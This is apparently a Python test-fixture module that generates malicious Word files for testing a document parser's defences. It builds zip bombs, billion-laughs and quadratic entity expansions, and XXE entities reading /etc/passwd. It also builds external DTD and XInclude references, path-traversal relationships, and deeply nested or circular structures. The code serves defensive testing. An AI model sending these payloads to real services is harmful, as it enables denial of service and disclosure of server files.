"""Word files that are small or cheap to write and dear to read, and those that reach outside: archives, entities, relations.

`BOMBS` names each one and builds its bytes. Does not cover: macros, which nothing here runs.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TEXT = "<w:p><w:r><w:t>Jane Roe, cook</w:t></w:r></w:p>"
OUTSIDE = "http://127.0.0.1:9/outside"
Parts = dict[str, str | bytes]


def document(body: str, before: str = "") -> str:
    """The main part."""
    return f'<?xml version="1.0"?>{before}<w:document {W} xmlns:mc="mc"><w:body>{body}</w:body></w:document>'


def package(main: str | bytes, method: int = zipfile.ZIP_DEFLATED, parts: Parts | None = None) -> bytes:
    """A Word file of a main part and others by name."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in {"word/document.xml": main, **(parts or {})}.items():
            archive.writestr(zipfile.ZipInfo(name), content, method)  # ZipInfo: at the same time in every run
    return packed.getvalue()


def related(*relations: str) -> Parts:
    """The relations of the main part."""
    return {"word/_rels/document.xml.rels": f'<Relationships xmlns="x">{"".join(relations)}</Relationships>'}


def relation(kind: str, target: str, mode: str = "") -> str:
    return f'<Relationship Id="{kind}" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/>'


def zip_bomb() -> bytes:
    """400 MB of spaces in 400 KB."""
    return package(document(" " * 400_000_000))


def zip_bomb_that_lies() -> bytes:
    """100 MB whose directory says that they are a thousand bytes."""
    data = bytearray(package(document(" " * 100_000_000)))
    entry = data.rindex(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = struct.pack("<I", 1000)
    return bytes(data)


def packed_otherwise(method: int) -> Callable[[], bytes]:
    """The bomb by another compression, whose unpacker has limits of its own."""
    return lambda: package(document(" " * 50_000_000), method)


def unknown_method() -> bytes:
    data = bytearray(package(document(TEXT)))
    for mark, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        data[data.index(mark) + place] = 99
    return bytes(data)


def many_parts() -> bytes:
    return package(document(TEXT), zipfile.ZIP_STORED, {f"word/part{number}.xml": b"" for number in range(60_000)})


def overlapping_parts() -> bytes:
    """A directory that names one body ten thousand times (after Fifield, 2019)."""
    data = package(document(" " * 1_000_000))
    start, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    entries = data[start:end] * 10_000
    counts = struct.pack("<HHII", 10_000, 10_000, len(entries), start)
    return data[:start] + entries + data[end : end + 8] + counts + b"\x00\x00"


def million_paragraphs() -> bytes:
    return package(document("<w:p/>" * 3_000_000))


def million_runs() -> bytes:
    run = '<w:r><w:rPr><w:rStyle w:val="s"/><w:color w:val="FFFFFF"/></w:rPr><w:t>a</w:t></w:r>'
    return package(document(f"<w:p>{run * 200_000}</w:p>"))


def deep_elements(depth: int, name: str) -> Callable[[], bytes]:
    """Elements in each other."""
    return lambda: package(document(f"<{name}>" * depth + TEXT + f"</{name}>" * depth))


def deep_tables() -> bytes:
    """Tables in cells of tables, just under the parser's limit on depth."""
    return package(document("<w:tbl><w:tr><w:tc>" * 80 + TEXT + "</w:tc></w:tr></w:tbl>" * 80))


def deep_boxes() -> bytes:
    return package(
        document("<w:p><w:r><mc:AlternateContent><mc:Choice>" * 60 + TEXT + "</mc:Choice></mc:AlternateContent></w:r></w:p>" * 60)
    )


def with_type(declarations: str, text: str = "&e;") -> bytes:
    """A document type with declarations, and a text that uses them."""
    return package(document(TEXT.replace("cook", text), f"<!DOCTYPE d [{declarations}]>"))


def billion_laughs() -> bytes:
    levels = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    return with_type(f'<!ENTITY e0 "ha">{levels}', "&e11;")


def quadratic_laughs() -> bytes:
    return with_type(f'<!ENTITY e "{"ha" * 50_000}">', "&e;" * 50_000)


def outside_entity(address: str = "file:///etc/passwd") -> bytes:
    return with_type(f'<!ENTITY e SYSTEM "{address}">')


def outside_type(address: str = OUTSIDE) -> bytes:
    return package(document(TEXT, f'<!DOCTYPE d SYSTEM "{address}.dtd">'))


def outside_parameter(address: str = OUTSIDE) -> bytes:
    return with_type(f'<!ENTITY % p SYSTEM "{address}.dtd"> %p;')


def outside_inclusion(address: str = OUTSIDE) -> bytes:
    return package(document(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}" parse="text"/>{TEXT}'))


def outside_relations(address: str = OUTSIDE) -> bytes:
    """A template, a picture and styles that lie elsewhere, and parts outside of the archive."""
    external = [relation(kind, f"{address}.{kind}", ' TargetMode="External"') for kind in ("attachedTemplate", "image", "settings")]
    inside = [relation("styles", address), relation("footnotes", "../../../../../etc/passwd"), relation("endnotes", "file:///etc/passwd")]
    return package(document(TEXT), parts=related(*external, *inside))


def styles_in_a_circle() -> bytes:
    style = '<w:style w:type="paragraph" w:default="1" w:styleId="{0}"><w:basedOn w:val="{1}"/></w:style>'
    styles: Parts = {"word/styles.xml": f"<w:styles {W}>{style.format('a', 'b')}{style.format('b', 'a')}</w:styles>"}
    return package(document(TEXT * 20_000), parts=related(relation("styles", "styles.xml")) | styles)


def parts_in_a_circle() -> bytes:
    """A document that is its own header, notes and footer."""
    body = '<w:sectPr><w:headerReference w:id="header"/><w:footerReference w:id="footer"/></w:sectPr>'
    kinds = ("header", "footer", "footnotes", "endnotes", "styles", "settings")
    return package(document(TEXT + body), parts=related(*(relation(kind, "document.xml") for kind in kinds)))


def many_headers() -> bytes:
    """Fifty thousand headers that are one large part."""
    references = "".join(f'<w:headerReference w:id="h{number}"/>' for number in range(50_000))
    relations = (relation("header", "header.xml").replace('Id="header"', f'Id="h{number}"') for number in range(50_000))
    header: Parts = {"word/header.xml": document(TEXT * 1000)}
    return package(document(f"{TEXT}<w:sectPr>{references}</w:sectPr>"), parts=related(*relations) | header)


def million_attributes() -> bytes:
    attributes = " ".join(f'a{number}="1"' for number in range(300_000))
    return package(document(f"<w:p {attributes}/>{TEXT}"))


def long_attribute() -> bytes:
    return package(document(f'<w:p a="{"x" * 15_000_000}"/>{TEXT}'))


def million_names() -> bytes:
    spaces = " ".join(f'xmlns:n{number}="u{number}"' for number in range(100_000))
    return package(document(f"<w:p {spaces}/>{TEXT}"))


def other_encoding(encoding: str) -> Callable[[], bytes]:
    """A main part in another encoding than it declares."""
    return lambda: package(document(TEXT).replace('"1.0"', f'"1.0" encoding="{encoding}"').encode("utf-16"))


BOMBS: dict[str, Callable[[], bytes]] = {
    "archive of 400 MB in 400 KB": zip_bomb,
    "archive that lies about its size": zip_bomb_that_lies,
    "archive by bzip2": packed_otherwise(zipfile.ZIP_BZIP2),
    "archive by LZMA": packed_otherwise(zipfile.ZIP_LZMA),
    "archive by an unknown method": unknown_method,
    "60,000 parts": many_parts,
    "10,000 parts on one body": overlapping_parts,
    "3 million paragraphs": million_paragraphs,
    "200,000 pale runs": million_runs,
    "elements 100,000 deep": deep_elements(100_000, "w:sdt"),
    "elements 240 deep": deep_elements(240, "w:sdt"),
    "runs 240 deep": deep_elements(240, "w:r"),
    "tables 80 deep": deep_tables,
    "text boxes 60 deep": deep_boxes,
    "billion laughs": billion_laughs,
    "quadratic laughs": quadratic_laughs,
    "entity that is a file": outside_entity,
    "document type elsewhere": outside_type,
    "parameter entity elsewhere": outside_parameter,
    "inclusion from elsewhere": outside_inclusion,
    "relations to elsewhere": outside_relations,
    "styles in a circle": styles_in_a_circle,
    "parts in a circle": parts_in_a_circle,
    "50,000 headers": many_headers,
    "300,000 attributes": million_attributes,
    "attribute of 15 MB": long_attribute,
    "100,000 name spaces": million_names,
    "encoding that lies": other_encoding("utf-8"),
    "encoding that is unknown": other_encoding("x-no-such"),
}
